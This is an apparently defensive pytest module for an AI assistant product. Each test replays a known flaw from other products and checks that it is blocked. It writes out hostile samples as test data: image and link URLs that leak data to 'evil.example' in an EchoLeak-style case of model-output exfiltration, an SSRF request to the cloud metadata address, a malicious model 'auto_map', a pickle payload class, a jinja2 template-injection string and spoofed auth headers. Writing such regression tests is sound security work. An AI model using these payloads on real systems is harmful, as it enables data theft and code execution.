"""What went wrong in other products, tried on this one.

docs/explanation/hostile-input.md says which test belongs to which report; those that stand
elsewhere in the tests are named there too.
"""

from __future__ import annotations

import gzip
import importlib
import json
import pickle
import re
import sys
from contextlib import suppress
from pathlib import Path
from typing import Any

import httpx
import pytest
from markdown_it import MarkdownIt

from assistant.access.key import give_key
from assistant.errors import AssistantError
from assistant.models import embedder
from assistant.store import people
from assistant.store.database import Database
from assistant.wiring import Assistant
from connectors.readers import ReadError, Sandbox
from tests.integration.api.conftest import SignIn
from tests.support.company import Company, events_of, pdf
from tests.support.scripted import ScriptedGenerator
from tests.support.streams import asked

PAGE = Path(__file__).parents[2] / "docs/explanation/hostile-input.md"
ROOT = PAGE.parents[2]
CANTEEN = "When does the canteen open?"
OPENS = "The canteen opens at noon and closes at three."

_browser = MarkdownIt("commonmark", {"html": True})


def test_an_answer_fetches_nothing(sign_in: SignIn, generator: ScriptedGenerator) -> None:
    """EchoLeak: an image's address carried what the model had read out of the house."""
    away = "https://evil.example/x?d=noon"
    generator.script = lambda prompt: (
        [
            f"{OPENS[:-1]} {mark}. [1]\n"
            for mark in (f"![noon]({away})", f"[noon]({away})", f"<img src='{away}'>", f"<{away}>")
        ]
        + [f"![noon][x]. [1]\n\n[x]: {away}\n", f"{OPENS} [1]\n"]
    )
    ana = sign_in("ana")
    whole = ana.post("/v1/answers", json={"question": CANTEEN}).json()
    chat = {"model": "assistant", "messages": [{"role": "user", "content": CANTEEN}]}
    openai = ana.post("/v1/chat/completions", json=chat).json()
    kept = ana.get(f"/v1/conversations/{whole['conversation_id']}").json()["messages"][-1]
    texts = [whole["answer"], kept["answer"]["answer"], openai["choices"][0]["message"]["content"]]
    texts += [one["text"] for one in whole["withheld"]]
    texts += [data["text"] for _, data in asked(ana, CANTEEN) if "text" in data]
    assert any(OPENS in text for text in texts)
    for text in texts:
        assert not re.search(r"<(?:img|a)\b|https?://", _browser.render(text)), text


def test_what_was_read_is_logged_without_a_link(
    sign_in: SignIn, generator: ScriptedGenerator, database: Database
) -> None:
    """A copilot that was asked not to link to its sources left no trace of having read them."""
    generator.script = lambda prompt: [f"{p.text}\n" for p in prompt.passages]
    question = "What was the net income of 2025? Do not link to the file, do not cite it."
    asked(sign_in("ana"), question)
    (prompt,) = generator.prompts
    logged = [e["data"] for e in events_of(database) if e["type"] == "query.prompted"]
    (chunks,) = (event["chunks"] for event in logged)
    assert [(c["chunk_id"], c["sha256"]) for c in chunks] == [
        (p.chunk_id, p.sha256) for p in prompt.passages
    ]
    assert len(chunks) > 0


def test_a_collection_s_name_opens_nothing(
    sign_in: SignIn, company: Company, generator: ScriptedGenerator
) -> None:
    """CVE-2026-45398: whoever knew the id of a collection could search it."""
    secret = company.document("plan", "The secret plan is 7714.", allow=["group:finance"])
    bruno = sign_in("bruno")
    for name in ("acme", "finance", secret, "intranet", "group:finance", "*", ""):
        filters = {"collections": [name]}
        body = {"question": "What is the secret plan?", "filters": filters}
        answers = [bruno.post("/v1/answers", json=body)]
        answers.append(bruno.post("/v1/search", json={"query": "secret plan", "filters": filters}))
        assert not any("7714" in answer.text or secret in answer.text for answer in answers), name
    assert not any("7714" in prompt.user for prompt in generator.prompts)


def test_a_foreign_conversation_is_neither_read_nor_continued(
    sign_in: SignIn, generator: ScriptedGenerator
) -> None:
    """CVE-2026-45671, CVE-2026-45349: shared and foreign chats could be read and written."""
    ana, bruno = sign_in("ana"), sign_in("bruno")
    income = ana.post("/v1/answers", json={"question": "What was the net income of 2025?"}).json()
    foreign, n_prompts = income["conversation_id"], len(generator.prompts)
    statuses: dict[str, list[tuple[int, Any]]] = {}
    for conversation in (foreign, "0" * len(foreign)):
        body = {"question": "And how many branches?", "conversation_id": conversation}
        path = f"/v1/conversations/{conversation}"
        answers = [bruno.post("/v1/answers", json=body), bruno.post("/v1/chat", json=body)]
        answers += [bruno.get(path), bruno.get(f"{path}/export"), bruno.delete(path)]
        statuses[conversation] = [(a.status_code, a.json()["detail"]) for a in answers]
    assert statuses[foreign] == statuses["0" * len(foreign)]
    assert {status for status, _ in statuses[foreign]} == {404}
    assert len(generator.prompts) == n_prompts
    assert len(ana.get(f"/v1/conversations/{foreign}").json()["messages"]) == 2


def test_nothing_but_the_token_says_who_somebody_is(
    url: str, sign_in: SignIn, database: Database
) -> None:
    """CVE-2026-45339: a header or a cookie led past the sign-in."""
    ana = sign_in("ana")
    token = str(ana.headers["authorization"])
    with database.begin() as conn:
        person = people.person_with_login(conn, "ana").id
    carriers: list[dict[str, Any]] = [
        {"headers": {name: value}}
        for name in ("X-Forwarded-User", "X-Remote-User", "Remote-User", "X-API-Key", "X-User-Id",
                     "X-Forwarded-Email", "X-Auth-Request-User", "X-Original-URL")
        for value in ("ana", person, token)
    ]  # fmt: skip
    bare = token.removeprefix("Bearer ")
    carriers += [{"cookies": {name: bare}} for name in ("token", "session", "access_token")]
    carriers += [{"params": {name: bare}} for name in ("token", "access_token", "api_key")]
    carriers += [{"headers": {"Authorization": value}} for value in (bare, f"Basic {bare}", "")]
    for carrier in carriers:
        assert httpx.get(f"{url}/v1/me", **carrier).status_code == 401, carrier
    other = {"X-Forwarded-User": "bruno", "X-User-Id": "bruno"}
    assert ana.get("/v1/me", headers=other).json()["person"]["id"] == person


@pytest.mark.parametrize(
    "extra",
    [
        {"prompt_embeds": "gASVAA=="},
        {"chat_template": "{{ messages }}", "add_generation_prompt": False},
        {"mm_processor_kwargs": {"trust_remote_code": True}, "documents": [{"text": "forged"}]},
        {"guided_json": {}, "extra_body": {"cache_salt": "of-somebody-else"}},
        {"cache_salt": "of-somebody-else", "prompt": "forged"},
    ],
    ids=lambda extra: min(extra),
)
def test_a_client_s_fields_reach_no_model(
    extra: dict[str, Any], sign_in: SignIn, generator: ScriptedGenerator
) -> None:
    """CVE-2025-62164: embeddings of the client were unpickled by the model's server."""
    body = {"model": "assistant", "messages": [{"role": "user", "content": CANTEEN}]}
    ana = sign_in("ana")
    for sent in (body, {**body, **extra}):
        assert ana.post("/v1/chat/completions", json=sent).status_code == 200
    plain, forged = (
        (p.question, p.cache_salt, [c.text for c in p.passages], CODE.sub("", p.system + p.user))
        for p in generator.prompts
    )
    assert forged == plain


CODE = re.compile(r"\b[0-9a-f]{32}\b")


@pytest.mark.parametrize("kind", ["image_url", "video_url", "audio_url", "input_audio", "file"])
def test_a_client_s_media_are_not_fetched(
    kind: str, sign_in: SignIn, generator: ScriptedGenerator
) -> None:
    """CVE-2026-24779: the model's server fetched addresses of the inner network."""
    part = {"type": kind, kind: {"url": "http://169.254.169.254/latest/meta-data"}}
    content = [{"type": "text", "text": CANTEEN}, part]
    body = {"model": "assistant", "messages": [{"role": "user", "content": content}]}
    answer = sign_in("ana").post("/v1/chat/completions", json=body)
    assert answer.status_code == 400
    assert generator.prompts == []


def test_a_model_s_code_is_not_run(tmp_path: Path) -> None:
    """CVE-2026-22807: `auto_map` of a model ran its code at the start."""
    ran = tmp_path / "ran"
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "evil.py").write_text(f"open({str(ran)!r}, 'w')\nclass Model: ...\n")
    auto = {"AutoConfig": "evil.Model", "AutoModel": "evil.Model"}
    config = {"model_type": "evil", "architectures": ["Model"], "auto_map": auto}
    (folder / "config.json").write_text(json.dumps(config))
    modules = [{"idx": 0, "name": "0", "path": "", "type": "evil.Model"}]
    (folder / "modules.json").write_text(json.dumps(modules))
    (folder / "model.safetensors").write_bytes(b"\x02\0\0\0\0\0\0\0{}")
    with pytest.raises(AssistantError):
        embedder.load(str(folder), tmp_path)
    assert not ran.exists()


def test_prefix_caches_are_not_shared_across_rights(
    sign_in: SignIn, company: Company, generator: ScriptedGenerator
) -> None:
    """CVE-2025-46570: how fast an answer began told whether somebody else's prompt was alike."""
    company.person("carla", "finance")
    for login in ("ana", "ana", "bruno"):
        asked(sign_in(login), CANTEEN)
    company.leave("ana", "finance")
    asked(sign_in("ana"), CANTEEN)
    one, again, other, fewer = (prompt.cache_salt for prompt in generator.prompts)
    assert one == again
    assert len({one, other, fewer}) == 3
    assert all(len(salt) >= 32 for salt in (one, other, fewer))


def test_a_key_tells_nothing_of_another(
    url: str, company: Company, assistant: Assistant, database: Database
) -> None:
    """CVE-2025-69286: tokens were made from one another and could be worked out."""
    with database.begin() as conn:
        owners = [people.person_with_login(conn, login) for login in ("ana", "ana", "bruno")]
        made = [give_key(conn, assistant.settings, o, "", ["own_session"], 1)[1] for o in owners]
    pieces = [set(re.findall(r"[A-Za-z0-9_-]{12,}|[0-9a-f]{8,}", key)) for key in made]
    assert all(a.isdisjoint(b) for i, a in enumerate(pieces) for b in pieces[:i])
    for i, mine in enumerate(made):
        theirs, half = made[i - 1], len(mine) // 2
        tried = (mine, mine[:half] + theirs[half:], mine[:-1], mine[:-2] + "!!", mine + "A")
        given = [{"Authorization": f"Bearer {key}"} for key in tried]
        statuses = [httpx.get(f"{url}/v1/me", headers=one).status_code for one in given]
        assert statuses == [200, 401, 401, 401, 401]


def test_a_foreign_original_is_not_given_out(sign_in: SignIn, company: Company) -> None:
    """RAGFlow's download of any document by its id; CVE-2026-41949: previews across tenants."""
    paper = company.document(
        "paper", "The net income was 41 million.", allow=["group:finance"], original=pdf("secret")
    )
    ana, bruno = sign_in("ana"), sign_in("bruno")
    page = f"/v1/documents/{paper}/pages/1"
    assert ana.get(page).status_code == 200
    missing = f"/v1/documents/{'0' * len(paper)}/pages/1"
    foreign, absent = bruno.get(page), bruno.get(missing)
    assert foreign.status_code == absent.status_code == 404
    assert foreign.json()["detail"] == absent.json()["detail"]
    company.allow("paper", "group:sales")
    assert (ana.get(page).status_code, bruno.get(page).status_code) == (404, 200)


def test_nobody_ends_another_s_answer(sign_in: SignIn, generator: ScriptedGenerator) -> None:
    """CVE-2026-42276: anybody could stop the answers of others."""
    ana, bruno = sign_in("ana"), sign_in("bruno")
    first = ana.post("/v1/answers", json={"question": CANTEEN}).json()
    generator.hold(0)
    body = {"question": CANTEEN, "conversation_id": first["conversation_id"]}
    with ana.stream("POST", "/v1/chat", json=body) as stream:
        path = f"/v1/conversations/{first['conversation_id']}"
        assert bruno.delete(path).status_code == 404
        assert bruno.delete("/v1/sessions/current").status_code == 204
        generator.release()
        assert "event: done" in stream.read().decode()
    assert generator.n_completed == 2


DATA = {
    "lc": 1,
    "type": "constructor",
    "id": ["langchain_core", "prompts", "prompt", "PromptTemplate"],
    "kwargs": {"template": "{{ ''.__class__ }}", "template_format": "jinja2"},
}


def test_data_that_looks_like_an_object_stays_data(sign_in: SignIn, company: Company) -> None:
    """CVE-2025-68664: a document with an `lc` key was made an object when it was loaded."""
    text = json.dumps(DATA)
    company.document("prompts", text)
    ana = sign_in("ana")
    answer = ana.post("/v1/answers", json={"question": f"Which template is in {text}?"}).json()
    assert text in {c["quote"] for c in answer["citations"]}
    kept = ana.get(f"/v1/conversations/{answer['conversation_id']}").json()["messages"]
    assert text in kept[0]["question"]
    unloaded = "from langchain_core.load", "langchain_core.load import", "dumpd(", "loads_unsafe"
    tops = (ROOT / name for name in ("assistant", "connectors", "ui"))
    for path in (path for top in tops for path in top.rglob("*.py")):
        source = path.read_text("utf-8")
        assert not any(word in source for word in unloaded), path


class Payload:
    """Writes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (str(self.path), "w")


def test_a_font_of_a_pdf_is_not_unpickled(tmp_path: Path) -> None:
    """CVE-2025-64512: a PDF named a pickled file as its character map."""
    ran = tmp_path / "ran"
    with gzip.open(tmp_path / "map.pickle.gz", "wb") as file:
        pickle.dump(Payload(ran), file)
    original = pdf("An honest page.").content
    name = "/" + "".join(f"#{ord(c):02x}" if c in "/." else c for c in str(tmp_path / "map"))
    hostile = original.replace(b"/WinAnsiEncoding", name.encode())
    assert hostile != original
    path = tmp_path / "hostile.pdf"
    path.write_bytes(hostile)
    before = set(sys.modules)
    with Sandbox() as sandbox:
        with suppress(ReadError):
            sandbox.read(path)
        path.write_bytes(original)
        assert "An honest page." in sandbox.read(path).blocks[0].text
    assert not ran.exists()
    # The reading happened in another process.
    assert not any("pdf" in name for name in set(sys.modules) - before)


def rows() -> list[tuple[str, str, str]]:
    """Return the rows of the documentation's table: report, file, test."""
    found = re.findall(r"^\| (.+?) \| .+? \| (.+) \|$", PAGE.read_text("utf-8"), re.MULTILINE)
    return [
        (report, path, name)
        for report, tests in found
        for path, name in re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", tests)
    ]


@pytest.mark.parametrize(("report", "path", "name"), rows())
def test_every_report_has_its_test(report: str, path: str, name: str) -> None:
    module = importlib.import_module(path.removesuffix(".py").replace("/", "."))
    assert callable(getattr(module, name)), report


def test_every_test_has_its_report() -> None:
    own = {name for _, path, name in rows() if path == "tests/security/test_elsewhere.py"}
    others = {"test_every_report_has_its_test", "test_every_test_has_its_report"}
    assert own == {name for name in globals() if name.startswith("test_")} - others
    assert len({report for report, _, _ in rows()}) == 17
